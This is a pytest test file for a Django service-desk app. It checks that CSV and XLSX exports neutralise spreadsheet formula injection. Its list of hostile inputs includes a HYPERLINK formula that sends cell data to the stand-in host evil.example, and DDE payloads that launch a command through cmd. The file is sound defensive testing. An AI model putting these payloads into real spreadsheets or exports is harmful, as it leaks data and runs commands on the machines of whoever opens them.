"""Every CSV/XLSX export writes what users typed as text, never as a formula (OWASP CSV
injection): a leading = + - @ tab or CR (also after spaces, also full-width) is
prefixed with a single quote, in the one helper every export uses."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.servicedesk.conftest import desk  # noqa: F401
from weibao.accounts.services.roles import grant_admin_role
from weibao.core.exports import neutralise, table_response
from weibao.portal.models import PortalSite
from weibao.portal.services import CHALLENGE_KEY
from weibao.servicedesk.models import Ticket
from weibao.testing.factories import UserFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&G2&H2,"查看详情")'
HOSTILE = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


def _csv_cells(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def _xlsx_cells(response) -> list:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(response, fmt: str, hostile: str):
    """No cell is a formula, and the hostile value is there, quoted, as text."""
    if fmt == "xlsx":
        cells = _xlsx_cells(response)
        assert all(cell.data_type != "f" for cell in cells)
        values = [cell.value for cell in cells]
    else:
        values = [value for row in _csv_cells(response) for value in row]
    assert "'" + hostile in values
    assert hostile not in values


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_that_excel_would_read_as_a_formula_is_quoted(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["门户打不开", "SL-2026-000001", "a=b", "", "13812345678", "'=already"])
def test_ordinary_text_is_left_as_it_is(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_helper_writes_text_as_text_and_numbers_as_numbers(fmt):
    rows = [[value, 3, Decimal("12.50"), -4] for value in HOSTILE]
    response = table_response(["=标题", "数", "金额", "差"], rows, fmt, stem="t", sheet="s")
    if fmt == "xlsx":
        cells = _xlsx_cells(response)
        assert all(cell.data_type != "f" for cell in cells)
        sheet_rows = [[cell.value for cell in cells[i:i + 4]] for i in range(4, len(cells), 4)]
        assert cells[0].value == "'=标题"
        # XML reads a stored CR back as LF
        assert [row[0] for row in sheet_rows] == ["'" + value.replace("\r", "\n") for value in HOSTILE]
        assert all(row[1] == 3 and row[2] == 12.5 and row[3] == -4 for row in sheet_rows)
    else:
        table = _csv_cells(response)
        assert table[0] == ["'=标题", "数", "金额", "差"]
        assert [row[0] for row in table[1:]] == ["'" + value for value in HOSTILE]
        assert all(row[1:] == ["3", "12.50", "-4"] for row in table[1:])


def test_characters_a_spreadsheet_cannot_hold_do_not_break_the_xlsx_export():
    response = table_response(["主题"], [["门户\x01打不开\x1b"], ["\x00=1+1"]], "xlsx", stem="t", sheet="s")
    assert [cell.value for cell in _xlsx_cells(response)] == ["主题", "门户打不开", "'=1+1"]


@pytest.fixture
def site(contract, desk):  # noqa: F811
    return PortalSite.objects.create(contract=contract, slug="shilong", title="石龙区运维服务门户")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_portal_subject_is_no_formula_in_the_pms_ticket_export(site, pm, client_for, fmt):
    citizen = Client()
    citizen.get("/portal/shilong/")
    citizen.post("/portal/shilong/", {
        "type": "fault", "name": "王五", "phone": "139-1234-5678", "subject": HYPERLINK,
        "description": "点击提交后无反应", "challenge": str(citizen.session[CHALLENGE_KEY]),
    })
    assert Ticket.objects.get().subject == HYPERLINK  # kept as typed; only the export quotes it
    response = client_for(pm).get("/tickets/", {"export": fmt})
    assert response.status_code == 200
    _assert_no_formula(response, fmt, HYPERLINK)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_username_typed_on_a_failed_login_is_no_formula_in_the_audit_export(client_for, fmt, db):
    hostile = "=1+cmd|' /C calc'!A0"
    Client().post("/accounts/login/", {"username": hostile, "password": "wrong-password"})
    admin = UserFactory(username="audit_admin")
    grant_admin_role(admin, "auditor", by=None)
    response = client_for(admin).get("/audit/", {"export": fmt})
    assert response.status_code == 200
    _assert_no_formula(response, fmt, hostile)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_feedback_figures_export_quotes_text_and_keeps_counts_numbers(pm, client_for, contract, desk, fmt):  # noqa: F811
    contract.number = "@SUM(1+1)"
    contract.save(update_fields=["number"])
    response = client_for(pm).get("/feedback/", {"start": "2026-10-01", "end": "2026-10-31", "export": fmt})
    assert response.status_code == 200
    _assert_no_formula(response, fmt, "@SUM(1+1)")
    if fmt == "xlsx":
        values = {row[0].value: row[1].value for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()}
        assert values["评价数"] == 0


def test_no_export_writes_a_spreadsheet_around_the_helper():
    """CSV and XLSX are written in weibao/core/exports.py only, where cells are made safe."""
    from pathlib import Path

    import weibao

    root = Path(weibao.__file__).parent
    writers = {
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if any(marker in path.read_text(encoding="utf-8") for marker in ("openpyxl", "csv.writer", "csv.DictWriter"))
    }
    assert writers == {"core/exports.py"}
